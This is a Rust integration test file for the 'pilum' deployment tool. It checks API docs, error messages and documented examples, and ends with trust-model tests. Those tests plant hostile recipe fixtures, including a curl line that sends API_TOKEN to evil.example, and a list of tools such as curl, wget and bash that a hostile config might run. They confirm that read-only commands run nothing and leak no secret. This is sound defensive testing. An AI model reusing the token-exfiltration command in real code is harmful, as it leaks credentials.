    );
}

#[test]
fn api_reference_and_definitions() {
    let t = Test::new().args(["api"]);
    let r = t.run().success();
    assert!(r.stdout.contains("exec::run(argv: Array, options: Map) -> Map"), "{}", r.stdout);
    assert!(r.stdout.contains("let r = exec::run([\"git\", \"rev-parse\", \"HEAD\"]);"));
    assert!(r.stdout.contains("pulumi::preview_with_config("));
    let t = Test::new().args(["api", "--definitions", "defs"]);
    t.run().success();
    let defs: Vec<_> = std::fs::read_dir(t.path().join("defs"))
        .expect("defs dir")
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(defs.iter().any(|d| d == "exec.d.rhai"), "{defs:?}");
    let exec = std::fs::read_to_string(t.path().join("defs/exec.d.rhai")).expect("exec defs");
    assert!(exec.contains("fn run(argv: array, options: map) -> map;"), "{exec}");
    let docker = std::fs::read_to_string(t.path().join("defs/docker.d.rhai")).expect("docker defs");
    assert!(docker.starts_with("module docker;\n"), "{docker}");
    assert!(docker.contains("fn ghcr(owner, name, tag);"), "{docker}");
}

#[test]
fn api_docs_are_current() {
    let r = Test::new().args(["api", "--markdown"]).run().success();
    assert!(
        r.stdout == include_str!("../docs/api.md"),
        "docs/api.md is stale: run `cargo run -- api --markdown > docs/api.md`"
    );
}

#[test]
fn ctrl_c_kills_the_running_command_and_exits_130() {
    let t = Test::new()
        .file("main.rhai", r#"exec::run(["sh", "-c", "echo $$ > child.pid; exec sleep 1000"]);"#)
        .args(["run", "main.rhai"]);
    let mut cmd = t.command();
    cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let child = cmd.spawn().expect("spawn pilum");
    let pid_file = t.path().join("child.pid");
    let mut waited = 0;
    while std::fs::read_to_string(&pid_file).map(|s| s.trim().is_empty()).unwrap_or(true) {
        std::thread::sleep(Duration::from_millis(20));
        waited += 1;
        assert!(waited < 1000, "script never started its command");
    }
    let status = std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .expect("kill");
    assert!(status.success());
    let out = child.wait_with_output().expect("pilum exits");
    assert_eq!(out.status.code(), Some(130), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(String::from_utf8_lossy(&out.stderr), "error: interrupted\n");
    let pid = std::fs::read_to_string(&pid_file).expect("pid");
    assert!(gone(&pid), "child {pid} survived Ctrl-C");
}

#[test]
fn modules_are_evaluated_once_and_unknown_stdlib_names_get_a_suggestion() {
    let t = Test::new()
        .file("lib/m.rhai", "print(\"loading m\");\nfn f() { 1 }\n")
        .file("a.rhai", "import \"./lib/m\" as m;\nfn g() { m::f() }\n")
        .file("main.rhai", "import \"./lib/m\" as m1;\nimport \"./a\" as a;\nimport \"lib/m\" as m2;\nprint(m1::f() + a::g() + m2::f());\n")
        .args(["run", "main.rhai"]);
    assert_eq!(t.run().success().stdout, "loading m\n3\n");

    let t = Test::new().file("main.rhai", "import \"dokcer\" as d;\n").args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert!(
        r.stderr.starts_with("error: unknown stdlib module `dokcer`\n --> main.rhai:1:8\n"),
        "{}",
        r.stderr
    );
    assert!(r.stderr.contains("help: did you mean `docker`?"), "{}", r.stderr);
}

#[test]
fn json_mode_emits_only_ndjson() {
    let t = Test::new()
        .file("main.rhai", "print(\"hi\");\nlog::warn(\"careful\");\nthrow \"bad\";\n")
        .args(["--json", "run", "main.rhai"]);
    let r = t.run().code(1);
    let events: Vec<serde_json::Value> =
        r.stdout.lines().map(|l| serde_json::from_str(l).expect("NDJSON line")).collect();
    assert_eq!(events[0], serde_json::json!({"event": "print", "label": "", "text": "hi"}));
    assert_eq!(
        events[1],
        serde_json::json!({"event": "log", "label": "", "level": "warn", "message": "careful"})
    );
    assert_eq!(events[2]["event"], "exit");
    assert_eq!(events[2]["code"], 1);
    assert!(
        events[2]["error"].as_str().expect("error text").starts_with("bad\n --> main.rhai:3:1")
    );
}

#[test]
fn git_changed_files_explains_a_shallow_clone() {
    let src = Test::new().file("a.txt", "1\n");
    src.git(&["init", "-q", "-b", "main"]);
    src.git(&["add", "."]);
    src.git(&["commit", "-qm", "one"]);
    std::fs::write(src.path().join("a.txt"), "2\n").expect("write");
    src.git(&["commit", "-qam", "two"]);
    let t = Test::new()
        .file("main.rhai", "print(git::is_shallow());\ngit::changed_files(\"origin/gone\");\n");
    let url = format!("file://{}", src.path().display());
    t.git(&["clone", "-q", "--depth", "1", &url, "repo"]);
    std::fs::copy(t.path().join("main.rhai"), t.path().join("repo/main.rhai")).expect("copy");
    let r = t.cwd("repo").args(["run", "main.rhai"]).run().code(1);
    assert_eq!(r.stdout, "true\n");
    assert!(
        r.stderr.starts_with(
            "error: cannot find the merge base of `origin/gone` and `HEAD`: this clone is shallow\n"
        ),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("help: fetch full history (GitHub Actions: `fetch-depth: 0`"),
        "{}",
        r.stderr
    );
}

#[test]
fn api_typos_and_wrong_arguments_get_help() {
    let t = Test::new().file("main.rhai", "exec::rn([\"true\"]);\n").args(["run", "main.rhai"]);
    assert_eq!(
        t.run().code(1).stderr,
        "error: function not found: `exec::rn (array)`
 --> main.rhai:1:7
  |
1 | exec::rn([\"true\"]);
  |       ^
help: did you mean `exec::run`?
"
    );
    let t = Test::new().file("main.rhai", "exec::run(\"true\");\n").args(["run", "main.rhai"]);
    let r = t.run().code(1);
    assert!(
        r.stderr.contains("help: the arguments do not match; `exec::run` is `exec::run(argv: Array) -> Map` or `exec::run(argv: Array, options: Map) -> Map`"),
        "{}",
        r.stderr
    );
}

#[test]
fn absurd_numbers_are_errors_not_panics() {
    for (script, needle) in [
        ("time::sleep(1e300);", "`time::sleep` was given more than a century"),
        (
            r#"exec::run(["true"], #{ timeout: 1e300 });"#,
            "option `timeout` of `exec::run` is too large",
        ),
        (r#"exec::run(["true"], #{ timeout: -1 });"#, "must be a positive number of seconds"),
        ("exit(300);", "exit code `300` is out of range: use 0 to 255"),
    ] {
        let r = Test::new().file("main.rhai", script).args(["run", "main.rhai"]).run().code(1);
        assert!(
            r.stderr.starts_with(&format!("error: {needle}")) || r.stderr.contains(needle),
            "{script}: {}",
            r.stderr
        );
        assert!(!r.stderr.contains("panicked"), "{script}: {}", r.stderr);
    }
    let r = Test::new()
        .file("main.rhai", "")
        .args(["run", "--timeout", "99999999999h", "main.rhai"])
        .run()
        .code(2);
    assert!(r.stderr.contains("longer than the maximum of 366 days"), "{}", r.stderr);
    let r = Test::new()
        .file("main.rhai", "")
        .args(["run", "--timeout", "5 parsecs", "main.rhai"])
        .run()
        .code(2);
    assert!(r.stderr.contains("unknown duration unit `parsecs`"), "{}", r.stderr);
}

#[test]
fn rendered_error_in_an_imported_module_is_pinned() {
    let t = Test::new()
        .file("lib/bad.rhai", "let x = 1;\nthrow \"bad module\";\n")
        .file("main.rhai", "\nimport \"./lib/bad\" as b;\n")
        .args(["run", "main.rhai"]);
    assert_eq!(
        t.run().code(1).stderr,
        "error: bad module
 --> lib/bad.rhai:2:1
  |
2 | throw \"bad module\";
  | ^
  = note: in module `lib/bad.rhai`, imported from main.rhai:2:8
"
    );
}

#[test]
fn long_lists_maps_and_strings_build_in_linear_time() {
    // Rhai's own size limits re-measured the whole list on every push (6.9 s for this loop);
    // pilum bounds memory instead (`script::engine` tests run into that bound). No timing
    // here: `benches/run.sh` measures the cost.
    let t = Test::new()
        .file(
            "main.rhai",
            r#"let a = []; for i in 0..100000 { a.push(i); }
let m = #{}; for i in 0..20000 { m[`k${i}`] = i; }
let s = ""; for i in 0..100000 { s += "x"; }
print(`${a.len()} ${m.len()} ${s.len()}`);"#,
        )
        .args(["run", "main.rhai"]);
    let r = t.run().success();
    assert_eq!(r.stdout, "100000 20000 100000\n");
    let help = t.clear_args().args(["run", "--help"]).run().success();
    assert!(help.stdout.contains("default 1h"), "{}", help.stdout);
}

// ---------------------------------------------------------------------------------------------
// Every example in the docs runs
// ---------------------------------------------------------------------------------------------

/// The ```rhai blocks of a Markdown file.
fn rhai_blocks(md: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut block: Option<String> = None;
    for line in md.lines() {
        match (&mut block, line.trim_start()) {
            (None, l) if l.starts_with("```rhai") => block = Some(String::new()),
            (Some(_), l) if l.starts_with("```") => out.extend(block.take()),
            (Some(b), _) => {
                b.push_str(line);
                b.push('\n');
            }
            (None, _) => {}
        }
    }
    out
}

/// A line split at its `//` comment (outside string literals).
fn split_comment(line: &str) -> (&str, Option<&str>) {
    let bytes = line.as_bytes();
    let mut quote: Option<u8> = None;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) if b == b'\\' && q != b'`' => i += 1,
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None if b == b'"' || b == b'`' || b == b'\'' => quote = Some(b),
            None if b == b'/' && bytes.get(i + 1) == Some(&b'/') => {
                return (&line[..i], Some(line[i + 2..].trim()));
            }
            None => {}
        }
        i += 1;
    }
    (line, None)
}

/// A comment that states a value (`// "a, b"`, `// 90`): the Rhai literal.
fn stated_value(comment: &str) -> Option<&str> {
    let c = comment.trim();
    let literal = c.starts_with('"')
        || c.starts_with(|ch: char| ch.is_ascii_digit())
        || c == "true"
        || c == "false";
    literal.then_some(c)
}

/// An example turned into a script that fails when the example does not do what it says:
/// a value stated in a trailing comment is compared, a `print(…);  // "x"` must print `x`, and
/// no top-level `let` may be left holding `()` (what `fs::read(p).trim()` gives: Rhai's `trim`
/// works in place). Returns the script and the lines it must print.
fn checked_example(example: &str) -> (String, Vec<String>) {
    let mut code = Vec::new();
    let mut printed = Vec::new();
    let mut last_value = None;
    let mut lets = Vec::new();
    for line in example.lines() {
        let (c, comment) = split_comment(line);
        let value = comment.and_then(stated_value);
        let c = c.trim_end();
        if let Some(v) = value {
            if c.trim_start().starts_with("print(") && c.ends_with(';') {
                let text = v.trim_matches('"').replace("\\\\", "\\");
                printed.push(text);
            } else {
                last_value = Some(v.to_string());
            }
        }
        if let Some(rest) = c.strip_prefix("let ") {
            let name: String =
                rest.chars().take_while(|ch| ch.is_alphanumeric() || *ch == '_').collect();
            lets.push(name);
        }
        // `print(())` prints an empty line; the checked print refuses `()`.
        code.push(c.replace("print(", "checked_print("));
    }
    let body = code.join("\n");
    let trimmed = body.trim_end();
    let ends_in_expression = !trimmed.ends_with(';') && !trimmed.ends_with('}');
    let mut script = match last_value {
        Some(v) if ends_in_expression => {
            // The statements before the final expression, then the expression checked.
            let (before, expr) = trimmed.rsplit_once(';').map_or(("", trimmed), |(b, e)| (b, e));
            let before = if before.is_empty() { String::new() } else { format!("{before};\n") };
            format!(
                "{before}let __got = ({});\nlet __want = {v};\nif __got != __want {{ throw `the example gives ${{__got}}; its comment says ${{__want}}`; }}\n",
                expr.trim()
            )
        }
        _ if ends_in_expression => format!("{trimmed};\n"),
        _ => format!("{body}\n"),
    };
    for name in lets {
        script.push_str(&format!(
            "if type_of({name}) == \"()\" {{ throw \"the example leaves `{name}` holding ()\"; }}\n"
        ));
    }
    (script, printed)
}

/// The project the examples run in: two `shell` services, the files the examples name, a git
/// history with `origin/main` and a tag, and fake cloud CLIs.
fn examples_project() -> Test {
    let shell = |name: &str| {
        format!(
            "name: {name}\nrecipe: shell\nshell:\n  build: \"true\"\n  push: \"true\"\n  deploy: \"true\"\n"
        )
    };
    let t = Test::new()
        .file(".gitignore", ".bin/\n.calls/\n.pilum/\nexample.rhai\n")
        .file("VERSION", "1.2.3\n")
        .file("web/package.json", r#"{"name": "web", "version": "1.0.0"}"#)
        .file("package.json", r#"{"name": "tool", "version": "1.2.0"}"#)
        .file("services/api/pilum.yaml", &shell("api"))
        .file("services/web/pilum.yaml", &shell("web"))
        .file("Dockerfile", "FROM scratch\n")
        .file("migrations/001.sql", "select 1;\n")
        .file("dist/app.tar.gz", "archive\n")
        .file("dist/a.tar.gz", "a\n")
        .file("dist/b.tar.gz", "b\n")
        .file("native/Makefile", "all:\n")
        .file("infra/Pulumi.yaml", "name: infra\n")
        .fake("docker", "exit 0")
        .fake("make", "exit 0")
        .fake("gcloud", "exit 0")
        .fake("gh", "case \"$1 $2\" in\n  \"repo view\") echo acme/tool ;;\n  \"release view\") echo 'release not found' >&2; exit 1 ;;\nesac")
        .fake("aws", "echo aws-password")
        .fake(
            "pulumi",
            r#"case "$1 $2" in
  "config get") echo '{"value":"3","secret":false}' ;;
  "preview --json") echo '{"steps":[],"changeSummary":{"update":1,"same":2}}' ;;
  "refresh --preview-only") echo '{"steps":[],"changeSummary":{"same":3}}' ;;
  "stack output") echo '{"url":"https://example.com"}' ;;
esac"#,
        );
    t.git(&["init", "-q", "-b", "main"]);
    t.git(&["add", "-A"]);
    t.git(&["commit", "-q", "-m", "base"]);
    t.git(&["update-ref", "refs/remotes/origin/main", "HEAD"]);
    t.git(&["tag", "v1.0.0"]);
    std::fs::write(t.path().join("services/api/main.txt"), "changed\n").expect("write");
    t.git(&["add", "-A"]);
    t.git(&["commit", "-q", "-m", "change api"]);
    t
}

/// A copy of the examples project, with the environment the examples read.
fn example_run(template: &Test) -> Test {
    let t = Test::new();
    // Not the fakes' call records: examples running in other copies may be writing one there
    // (each call is a temporary file renamed into place), and no example reads them.
    crate::common::copy_dir(template.path(), t.path(), &[".calls"]);
    t.env("AWS_REGION", "eu-west-1")
        .env("GCP_PROJECT", "acme-prod")
        .env("REGISTRY_TOKEN", "registry-token-123")
        .env("DOCKERHUB_TOKEN", "dockerhub-token-123")
        .env("GHCR_TOKEN", "ghcr-token-123")
        .env("GITHUB_TOKEN", "github-token-123")
        .env("HOOK_TOKEN", "hook-token-123")
        .env("HOOK_SECRET", "hook-secret-123")
}

/// The stdlib modules an example may call without importing them (the reference documents
/// them under their namespace).
const STDLIB: [&str; 6] = ["checksum", "docker", "github", "pkg", "registry", "retry"];

/// A print that refuses `()`, and what a fixture variable holds when an example uses one it
/// does not define.
const EXAMPLE_PRELUDE: &str = r#"let url = ARGS[1];
let ctx = #{ dry_run: false, root: ARGS[0], dir: "", service: "api", recipe: "shell", tag: "v1.2.0",
             region: (), regions: [], fields: #{ memory: (), token_env: "REGISTRY_TOKEN", url: url } };
let plan = #{ services: ["api"] };
let urn = "urn:pulumi:prod::infra::aws:ecs/service:Service::web";
let tag = "v1.4.2";
let name = "api";
fn checked_print(x) {
    if type_of(x) == "()" { throw "the example prints ()"; }
    print(x);
}
"#;

#[test]
fn every_script_example_in_the_docs_runs() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut examples = Vec::new();
    for doc in ["docs/api.md", "docs/pipeline.md", "docs/recipes/stdlib.md"] {
        let text = std::fs::read_to_string(root.join(doc)).expect("read docs");
        examples.extend(rhai_blocks(&text).into_iter().map(|b| (doc, b)));
    }
    assert!(examples.len() > 70, "examples found: {}", examples.len());
    let template = examples_project();
    // `http::` examples talk to this loopback server (`url` in the prelude): 200 with JSON.
    let server = crate::common::receiver::Receiver::start(|_, _| {
        crate::common::receiver::Reply::json(200, serde_json::json!({"ok": true}))
    });
    // Two at a time: each example is a `pilum run` in its own copy of the project.
    let failures: Vec<String> = std::thread::scope(|scope| {
        let (left, right) = examples.split_at(examples.len() / 2);
        let run_all = |part: &[(&str, String)]| -> Vec<String> {
            part.iter()
                .filter_map(|(doc, example)| run_example(&template, &server.url, doc, example))
                .collect()
        };
        let other = scope.spawn(move || run_all(right));
        let mut failures = run_all(left);
        failures.extend(other.join().expect("examples thread"));
        failures
    });
    assert!(failures.is_empty(), "{} examples fail:\n\n{}", failures.len(), failures.join("\n"));
}

/// Run one example; what went wrong, if anything.
fn run_example(template: &Test, url: &str, doc: &str, example: &str) -> Option<String> {
    let t = example_run(template);
    let (body, printed) = checked_example(example);
    let imports: String = STDLIB
        .iter()
        .filter(|m| example.contains(&format!("{m}::")))
        .map(|m| format!("import \"{m}\" as {m};\n"))
        .collect();
    let script = format!("{imports}{EXAMPLE_PRELUDE}{body}");
    std::fs::write(t.path().join("example.rhai"), &script).expect("write example");
    let here = t.path().canonicalize().expect("root").display().to_string();
    let r = t.args(["run", "example.rhai", "--"]).arg(here).arg(url).run();
    let mut wrong = Vec::new();
    if r.status != 0 {
        wrong.push(format!("exit code {}", r.status));
    }
    for line in &printed {
        if !r.stdout.lines().any(|l| l == line) {
            wrong.push(format!("did not print `{line}`"));
        }
    }
    if wrong.is_empty() {
        return None;
    }
    Some(format!(
        "{doc}:\n{example}--- {}\n--- stdout\n{}--- stderr\n{}",
        wrong.join(", "),
        r.stdout,
        r.stderr
    ))
}

#[test]
fn every_recipe_and_strategy_example_in_the_docs_runs() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut recipes = 0;
    for doc in ["README.md", "docs/recipes.md"] {
        let text = std::fs::read_to_string(root.join(doc)).expect("read docs");
        for block in rhai_blocks(&text).into_iter().filter(|b| b.contains("fn recipe()")) {
            recipes += 1;
            let name = block
                .split("name: \"")
                .nth(1)
                .and_then(|r| r.split('"').next())
                .expect("a recipe example declares its name");
            let t = Test::new()
                .file(&format!("recipes/{name}.rhai"), &block)
                .file(
                    "web/pilum.yaml",
                    &format!(
                        "name: web\nrecipe: {name}\nregion: iad\n{}:\n  app: web-app\n",
                        name.replace('-', "_")
                    ),
                )
                .file("web/Dockerfile", "FROM scratch\n")
                .fake("docker", "exit 0")
                .fake("flyctl", "exit 0")
                .env("FLY_API_TOKEN", "fly-token-123")
                .args(["deploy", "--tag", "v1.0.0"]);
            let r = t.run();
            assert_eq!(r.status, 0, "{doc}:\n{block}\n{}{}", r.stdout, r.stderr);
            let deploys: Vec<_> =
                t.calls("flyctl").into_iter().filter(|c| c[0] == "deploy").collect();
            assert_eq!(deploys.len(), 1, "{doc}: {deploys:?}");
            assert!(deploys[0].iter().any(|a| a == "web-app"), "{doc}: {deploys:?}");
        }
    }
    assert_eq!(recipes, 2, "recipe examples in README.md and docs/recipes.md");

    // The strategy example, in place of the example project's own.
    let text = std::fs::read_to_string(root.join("docs/scaling.md")).expect("read docs");
    let strategy =
        rhai_blocks(&text).into_iter().find(|b| b.contains("fn decide(ctx)")).expect("strategy");
    let scaling = root.join("examples/scaling");
    let read = |f: &str| std::fs::read_to_string(scaling.join(f)).expect("read example");
    // 1800 messages at 500 per replica: 4 consumers.
    let t = Test::new()
        .file("pilum-scale.yaml", &read("pilum-scale.yaml"))
        .file(
            "signals.jsonl",
            // A backlog for the pool the strategy sizes (a direction needs its step, as on the
            // server).
            "{\"at\": 0, \"pool\": \"consumers\", \"alarm\": \"Backlog\", \"state\": \"ALARM\", \"action\": \"up\", \"step\": 1, \"metric\": 1800.0}\n",
        )
        .file("strategies/queue-depth.rhai", &strategy)
        .args(["scale", "simulate", "--config", "pilum-scale.yaml", "--signals", "signals.jsonl"]);
    let r = t.run();
    assert_eq!(r.status, 0, "docs/scaling.md:\n{strategy}\n{}{}", r.stdout, r.stderr);
    assert!(r.stdout.contains("→ 4  backlog 1800"), "decided from the backlog: {}", r.stdout);
}

// ---------------------------------------------------------------------------------------------
// The trust model (docs/security.md): what is safe on an untrusted change
// ---------------------------------------------------------------------------------------------

/// The git subcommands these commands may run: read-only, and not configurable by the files of
/// a change (see docs/security.md).
const READ_ONLY_GIT: &[&str] = &["ls-files", "rev-parse", "status"];

/// The real `git`, for a fake that records its calls and passes read-only ones on.
fn real_git() -> std::path::PathBuf {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .map(|d| d.join("git"))
        .find(|p| p.is_file())
        .expect("git is installed (tests run real git histories)")
}

/// Tools a hostile `pilum.yaml` or recipe might try to run.
const TOOLS: &[&str] = &[
    "git", "docker", "pulumi", "gcloud", "aws", "az", "kubectl", "helm", "flyctl", "gh", "npm",
    "cargo", "make", "curl", "wget", "sh", "bash", "python3",
];

/// Run read-only commands in `t` and assert that none ran a tool or printed a secret; with
/// `valid`, that each also succeeded. Returns the stderr of each.
fn assert_runs_nothing(
    mut t: Test,
    commands: &[&[&str]],
    secrets: &[&str],
    valid: bool,
) -> Vec<String> {
    let mut errors = Vec::new();
    for args in commands {
        t = t.clear_args().args(*args);
        let r = t.run();
        let all = format!("{}{}", r.stdout, r.stderr);
        let shown = args.join(" ");
        for secret in secrets {
            assert!(!all.contains(secret), "`pilum {shown}` printed a secret:\n{all}");
        }
        for tool in TOOLS {
            let calls: Vec<_> = t
                .calls(tool)
                .into_iter()
                .filter(|argv| {
                    let sub = argv.iter().skip_while(|a| a.starts_with('-') || a.starts_with('/'));
                    tool != &"git" || !sub.take(1).any(|s| READ_ONLY_GIT.contains(&s.as_str()))
                })
                .collect();
            assert!(calls.is_empty(), "`pilum {shown}` ran `{tool}` {calls:?}\n{all}");
        }
        assert!(!valid || r.status == 0, "`pilum {shown}` failed: {all}");
        errors.push(r.stderr);
    }
    errors
}

/// A fake that records its call; `git` then runs for real (its calls are checked above).
fn fake_body(tool: &str) -> String {
    if tool == "git" {
        format!("exec '{}' \"$@\"", real_git().display())
    } else {
        "echo ran".to_string()
    }
}

/// A project whose `pilum.yaml` files put secrets in env, fields and commands.
fn project_with_secrets() -> Test {
    let mut t = Test::new()
        .file(
            "recipes/notify.rhai",
            r#"// Top-level code: compiled, never evaluated by check/plan/list/graph.
exec::run(["curl", "https://evil.example/?t=" + env::get("API_TOKEN")]);
fn recipe() {
    #{ name: "notify", description: "posts somewhere", provider: "hooks", kind: "app",
       fields: [ #{ name: "token", type: "string", required: true, description: "a token" } ],
       steps: [ #{ name: "deploy", tags: ["deploy"], run: "deploy" } ] }
}
fn deploy(ctx) { exec::run(["curl", "-H", ctx.fields.token, "https://hooks.example/"]); }
"#,
        )
        .file(
            "api/pilum.yaml",
            "name: api\nrecipe: shell\nsecrets: [API_TOKEN, SERVICE_BLOB]\nenv:\n  TOKEN: ${API_TOKEN}\n  BLOB: ${SERVICE_BLOB}\nshell:\n  build: 'curl -H \"x: ${API_TOKEN}\" https://example.com'\n  deploy: ./deploy.sh ${SERVICE_BLOB}\n",
        )
        .file(
            "web/pilum.yaml",
            "name: web\nrecipe: notify\nsecrets: [API_TOKEN]\ndepends_on: [api]\nnotify:\n  token: ${API_TOKEN}\n",
        )
        .env("API_TOKEN", "tok-SECRET-value-123")
        // Listed in `secrets:` although its name does not look secret.
        .env("SERVICE_BLOB", "blob-SECRET-value-456");
    for tool in TOOLS {
        t = t.fake(tool, &fake_body(tool));
    }
    committed(t)
}

/// `t` as a git checkout with one commit (what CI checks out for a pull request).
fn committed(t: Test) -> Test {
    let t = t.file(".gitignore", ".bin/\n.calls/\n");
    t.git(&["init", "-q", "-b", "main"]);
    t.git(&["add", "-A"]);
    t.git(&["commit", "-q", "-m", "change"]);
    t
}

#[test]
fn check_plan_list_and_graph_run_nothing_and_print_no_secret() {
    // A valid project: each command does its whole job, and prints no secret.
    let t = project_with_secrets();
    assert_runs_nothing(
        t,
        &[
            &["check"],
            &["--json", "check"],
            &["plan"],
            &["--json", "plan"],
            &["plan", "--dry-run"],
            &["list"],
            &["--json", "list"],
            &["list", "--recipes"],
            &["graph"],
            &["--json", "graph"],
        ],
        &["tok-SECRET-value-123"],
        true,
    );

    // A hostile declaration: `recipe()` and `plan()` run with no process, file or env API.
    let mut t = Test::new()
        .file(
            "recipes/evil.rhai",
            r#"fn recipe() {
    exec::run(["curl", "https://evil.example/"]);
    #{ name: "evil", description: "x", provider: "x", kind: "app", fields: [],
       steps: [ #{ name: "deploy", tags: ["deploy"], run: "deploy" } ] }
}
fn deploy(ctx) { }
"#,
        )
        .file("web/pilum.yaml", "name: web\nrecipe: evil\n")
        .env("API_TOKEN", "tok-SECRET-value-123");
    for tool in TOOLS {
        t = t.fake(tool, &fake_body(tool));
    }
    let errors = assert_runs_nothing(
        committed(t),
        &[&["check"], &["plan"], &["list"], &["graph"]],
        &["tok-SECRET-value-123"],
        false,
    );
    assert!(errors[0].contains("may only build data: no commands, files or network"), "{errors:?}");
}

#[test]
fn listed_secrets_with_plain_names_are_masked_by_plan() {
    // `SERVICE_BLOB` is listed in `secrets:` but its name does not look secret, so only the
    // list can mask it, and `pilum --json plan` prints the expanded `deploy` command.
    let t = project_with_secrets();
    assert_runs_nothing(t, &[&["plan"], &["--json", "plan"]], &["blob-SECRET-value-456"], true);
}
